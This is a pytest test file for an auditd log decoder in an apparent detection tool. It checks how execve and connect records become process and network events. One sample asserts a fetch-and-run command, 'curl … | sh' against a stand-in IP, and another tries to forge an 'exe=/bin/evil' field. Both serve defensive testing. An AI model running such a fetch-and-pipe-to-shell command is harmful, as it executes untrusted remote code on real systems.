"""Raw audit events: which lines belong together, what ran, where it connected, and what is left alone."""

from pathlib import Path

import pytest

from tidewaiter.event import Event, NetworkFlow, ProcessExec, Where
from tidewaiter.sources import RecordError
from tidewaiter.sources.auditd import SOURCE, decode, join_key, recognise_text

SAMPLES = Path(__file__).parents[1] / "samples" / "auditd"
WHERE = Where("auditd", "audit.log", 1)
STAMP = "1789996420.986:5101"


def line(kind: str, body: str, stamp: str = STAMP) -> bytes:
    """One audit line."""
    return f"type={kind} msg=audit({stamp}): {body}".encode()


def syscall(number: int, **fields: object) -> bytes:
    """A SYSCALL line as x86_64 writes it, with some fields changed."""
    said = {
        "arch": "c000003e",
        "syscall": number,
        "success": "yes",
        "exit": 0,
        "a0": 3,
        "ppid": 10,
        "pid": 11,
        "uid": 0,
    }
    said |= {"comm": '"x"', "exe": '"/bin/x"', "key": "(null)"} | fields
    return line("SYSCALL", " ".join(f"{name}={value}" for name, value in said.items()))


def decoded(*lines: bytes) -> list[Event]:
    """The events of the lines of one audit event."""
    return list(decode(b"\n".join(lines), WHERE))


def ran(*lines: bytes) -> ProcessExec:
    """The one execution among the lines."""
    (event,) = decoded(*lines)
    assert isinstance(event, ProcessExec)
    return event


def flow(*lines: bytes) -> NetworkFlow:
    """The one flow among the lines."""
    (event,) = decoded(*lines)
    assert isinstance(event, NetworkFlow)
    return event


def joined(path: Path) -> list[Event]:
    """All events of a file, its lines put together by their key."""
    events: dict[bytes, list[bytes]] = {}
    for one in path.read_bytes().split(b"\n"):
        key = join_key(one)
        if key is not None:
            events.setdefault(key, []).append(one)
    return [event for lines in events.values() for event in decoded(*lines)]


def test_execution_is_told_with_its_program_arguments_directory_and_pids() -> None:
    """An enriched execve gives everything but the container."""
    first, second, *_ = joined(SAMPLES / "enriched-3.0.in.log")
    assert isinstance(first, ProcessExec)
    assert first.time_ns == 1_789_996_420_986_000_000
    assert (first.exe, first.args[:2], first.cwd) == ("/bin/busybox", ("sh", "-c"), "/app")
    assert first.args[2] == "curl -fsSL http://203.0.113.7/x | sh"
    assert (first.pid, first.parent_pid, first.uid, first.native_id) == (4120, 4100, 0, STAMP)
    assert (first.node, first.container_id, first.container_id_prefix, first.pod) == (None, None, None, None)
    assert isinstance(second, ProcessExec)
    assert second.cwd == "/app/with blank"


def test_flows_of_a_sample_are_read_from_socket_addresses() -> None:
    """connect in progress, refused over IPv6, and one datagram; a local socket and a failed execve are nothing."""
    events = joined(SAMPLES / "enriched-3.0.in.log")
    flows = [event for event in events if isinstance(event, NetworkFlow)]
    assert len(events) == 5
    assert [(f.dst_ip, f.dst_port, f.is_refused, f.is_initiator_proven, f.protocol) for f in flows] == [
        ("203.0.113.7", 80, False, True, None),
        ("2001:db8::1", 443, True, True, None),
        ("198.51.100.53", 53, False, False, "udp"),
    ]
    assert {f.direction for f in flows} == {"egress"}
    assert (flows[0].exe, flows[0].pid) == ("/usr/bin/curl", 4121)


def test_interleaved_lines_with_a_node_and_no_separator_are_two_events() -> None:
    """The key holds node and stamp; capitals glued to the last field do no harm."""
    exec_event, connect = sorted(joined(SAMPLES / "node-prefix-interleaved.in.log"), key=lambda e: str(e.native_id))
    assert isinstance(exec_event, ProcessExec)
    assert exec_event.args == ("wget", "https://dl.example/x")
    assert (exec_event.node, exec_event.uid) == ("node-a.example", 1000)
    assert isinstance(connect, NetworkFlow)
    assert (connect.dst_ip, connect.dst_port, connect.node) == ("203.0.113.8", 443, "node-a.example")


def test_split_and_continued_arguments_are_put_together() -> None:
    """`a2[0]`, `a2[1]` over two EXECVE lines are one argument."""
    first, second, third = joined(SAMPLES / "raw-split-arguments.in.log")
    assert isinstance(first, ProcessExec)
    assert first.args == ("python3", "-c", "import os; " + "A" * 60 + "BBBB", "last")
    assert isinstance(second, ProcessExec)
    assert second.exe == "/opt/odd name (deleted)"
    assert second.args == ("./odd", "--café", "\ufffd")
    assert isinstance(third, NetworkFlow)
    assert (third.dst_ip, third.dst_port) == ("198.51.100.7", 8080)


def test_kernel_log_form_is_read() -> None:
    """Without an audit daemon the kernel prints type numbers and no `msg=`."""
    (event,) = joined(SAMPLES / "kernel-log.in.log")
    assert isinstance(event, ProcessExec)
    assert event.args == ("sh",)


def test_sessions_daemons_and_other_calls_are_no_behaviour() -> None:
    """USER_*, CRED_*, DAEMON_*, ANOM_* and openat give nothing, and are no error."""
    assert joined(SAMPLES / "no-behaviour.in.log") == []


def test_join_key_is_the_stamp_with_the_node() -> None:
    """Two nodes may use one stamp; a line of something else has no key."""
    assert join_key(b"type=CWD msg=audit(1.000:7): cwd=1") == b"audit(1.000:7)"
    assert join_key(b"node=a type=CWD msg=audit(1.000:7): cwd=1") == b"node=a audit(1.000:7)"
    assert join_key(b'ARCH=x86_64 SYSCALL=execve AUID="unset"') is None
    assert not recognise_text(b'{"type":"SYSCALL"}')


@pytest.mark.parametrize(
    ("arch", "number"),
    [
        ("c000003e", 59),
        ("c000003e", 322),
        ("c000003e", 0x40000000 | 520),
        ("c00000b7", 221),
        ("c00000b7", 281),
        ("40000003", 11),
        ("40000003", 358),
        ("80000016", 11),
        ("c0000015", 362),
    ],
)
def test_execution_is_known_by_number_on_each_architecture(arch: str, number: int) -> None:
    """execve and execveat, the x32 door included."""
    assert ran(syscall(number, arch=arch), line("EXECVE", 'argc=1 a0="x"')).args == ("x",)


def test_number_of_another_architecture_is_another_call() -> None:
    """59 on aarch64 is pipe2."""
    assert decoded(syscall(59, arch="c00000b7")) == []


def test_unknown_architecture_is_known_by_its_enriched_name() -> None:
    """Enriched logs name the call."""
    assert ran(syscall(7777, arch="deadbeef") + b" SYSCALL=execve").exe == "/bin/x"
    assert decoded(syscall(7777, arch="deadbeef")) == []


def test_failed_execution_is_none() -> None:
    """success=no ran nothing; a line without success proves nothing."""
    assert decoded(syscall(59, success="no", exit=-2)) == []
    assert decoded(line("SYSCALL", "arch=c000003e syscall=59 pid=1")) == []


def test_title_stands_in_for_missing_arguments() -> None:
    """PROCTITLE is hex with NULs, or quoted; its last NUL ends it."""
    assert ran(syscall(59), line("PROCTITLE", "proctitle=61006200")).args == ("a", "b")
    assert ran(syscall(59), line("PROCTITLE", 'proctitle="-bash"')).args == ("-bash",)
    assert ran(syscall(59), line("PROCTITLE", "proctitle=(null)")).args == ()


def test_hex_in_quotes_is_text() -> None:
    """Only an unquoted value is hex."""
    assert ran(syscall(59), line("EXECVE", 'argc=3 a0="6162" a1=6162 a2=616')).args == ("6162", "ab", "616")


def test_lines_in_any_order_give_the_same() -> None:
    """Order within the event does not matter, nor does a line delivered twice."""
    lines = [syscall(59), line("EXECVE", 'argc=2 a0="a" a1="b"'), line("CWD", 'cwd="/w"')]
    assert decoded(*lines) == decoded(*reversed(lines)) == decoded(*lines, *lines)


def test_incomplete_event_without_its_call_is_nothing() -> None:
    """What happened stands in SYSCALL only."""
    assert decoded(line("EXECVE", 'argc=1 a0="x"'), line("CWD", 'cwd="/"')) == []


def test_unset_user_and_impossible_pids_are_unknown() -> None:
    """4294967295 is no user; a pid of 0 or of forty digits is none."""
    event = ran(syscall(59, uid=4294967295, pid="9" * 40, ppid=0, exe="(null)"))
    assert (event.uid, event.pid, event.parent_pid, event.exe) == (None, None, None, None)


@pytest.mark.parametrize(
    ("exit_code", "is_refused"), [(-111, True), (-13, True), (-101, True), (-115, False), (-4, False)]
)
def test_only_a_real_refusal_is_one(exit_code: int, is_refused: bool) -> None:
    """EINPROGRESS and EINTR go on; ECONNREFUSED, EACCES, ENETUNREACH do not."""
    saddr = line("SOCKADDR", "saddr=02000050CB0071070000000000000000")
    assert flow(syscall(42, success="no", exit=exit_code), saddr).is_refused is is_refused


@pytest.mark.parametrize(
    "saddr",
    [
        "saddr=0100" + "2F7661722F72756E2F646F636B65722E736F636B00",
        "saddr=0000000000000000",
        "saddr=0200",
        "saddr=0A0001BB00000000",
        "saddr=100000000000000000000000",
        "saddr=02000000CB0071070000000000000000",
        "saddr=xyz",
        "",
    ],
)
def test_no_address_no_flow(saddr: str) -> None:
    """Local, unspecified, cut, netlink, port 0 (a route looked up) and rubbish."""
    assert decoded(syscall(42), line("SOCKADDR", saddr)) == []


def test_enriched_address_stands_in_for_an_unusable_one() -> None:
    """SADDR is read where saddr cannot be; the port of a raw datagram is none."""
    found = flow(syscall(42), line("SOCKADDR", "saddr=0200SADDR={ saddr_fam=inet laddr=203.0.113.9 lport=8443 }"))
    assert (found.dst_ip, found.dst_port) == ("203.0.113.9", 8443)
    ping = flow(syscall(44), line("SOCKADDR", "saddr=02000000CB0071070000000000000000"))
    assert (ping.dst_port, ping.protocol) == (None, None)


def test_mapped_and_big_endian_addresses_are_the_plain_ones() -> None:
    """::ffff:203.0.113.7 is 203.0.113.7; s390x writes the family the other way round."""
    mapped = line("SOCKADDR", "saddr=0A0001BB00000000" + "00" * 10 + "FFFFCB007107" + "00000000")
    assert flow(syscall(42), mapped).dst_ip == "203.0.113.7"
    big = line("SOCKADDR", "saddr=000201BBCB0071070000000000000000")
    assert flow(syscall(362, arch="80000016"), big).dst_ip == "203.0.113.7"


def test_receiving_and_binding_are_no_flow() -> None:
    """accept, bind and recvfrom have a SOCKADDR too."""
    saddr = line("SOCKADDR", "saddr=02000050CB0071070000000000000000")
    assert [decoded(syscall(number), saddr) for number in (43, 45, 49, 288)] == [[], [], [], []]


@pytest.mark.parametrize(
    "record",
    [
        b"",
        b"\x00\xff",
        b'ARCH=x86_64 SYSCALL=execve AUID="unset"',
        b"type=SYSCALL msg=audit(1:2): arch=c000003e",
        b"type=SYSCALL msg=audit(1.2.3:4): arch=c000003e",
        b"type=SYSCALL msg=audit(999999999999.000:1): arch=c000003e syscall=59 success=yes",
        b"type=SYSCALL msg=audit(0.000:1): arch=c000003e syscall=59 success=yes",
        syscall(59) + b"\n" + line("CWD", 'cwd="/"', stamp="1789996420.986:9"),
    ],
)
def test_rubbish_is_rejected(record: bytes) -> None:
    """No audit line, no time, a time out of range, or lines of two events."""
    with pytest.raises(RecordError):
        decode(record, WHERE)


def test_hostile_arguments_do_not_forge_fields() -> None:
    """What a process writes is quoted or hex: it cannot add a field, nor take memory by a large index."""
    event = ran(
        syscall(59, comm='"exe=/bin/evil"'),
        line("EXECVE", 'argc=1 a0="x" a999999="far" a9999999999="too far" a[0]="odd"'),
    )
    assert event.exe == "/bin/x"
    assert event.args == ("x", "far")


def test_recorded_container_is_found_by_its_pids(shared: Path) -> None:
    """The capture's container ran bash, then curl; curl reached 172.17.0.1:5998; nothing was refused."""
    events = joined(shared / "captures" / "auditd" / "audit.log")
    runs = [event for event in events if isinstance(event, ProcessExec)]
    flows = [event for event in events if isinstance(event, NetworkFlow)]
    assert len(runs) == 21
    curl = next(event for event in runs if event.exe == "/usr/bin/curl")
    assert curl.args == ("curl", "-s", "-m", "2", "http://172.17.0.1:5998/")
    bash = next(event for event in runs if event.pid == curl.parent_pid)
    assert bash.args == ("bash", "-c", 'curl -s -m 2 http://172.17.0.1:5998/; python3 -c "print(1)"')
    assert [(f.dst_ip, f.dst_port, f.pid, f.is_refused) for f in flows] == [("172.17.0.1", 5998, curl.pid, False)]


def test_public_samples_are_read(shared: Path) -> None:
    """Enriched and plain records of others' machines."""
    crash = joined(shared / "samples" / "auditd" / "auditd-suid-crash.log")
    assert [event.exe for event in crash if isinstance(event, ProcessExec)] == ["/usr/bin/bash", "/usr/bin/su"]
    folder = shared / "samples" / "auditd_otrf"
    found = [event for path in sorted(folder.iterdir()) for event in joined(path) if isinstance(event, ProcessExec)]
    assert [(event.exe, event.args[0]) for event in found] == [
        ("/usr/sbin/arp", "arp"),
        ("/bin/grep", "grep"),
        ("/bin/dd", "dd"),
    ]


def test_source_says_what_it_cannot_see() -> None:
    """The log source is AN0691's own name for it."""
    assert SOURCE.log_sources == ("auditd:SYSCALL",)
    assert "container" in SOURCE.cannot_see.lower()
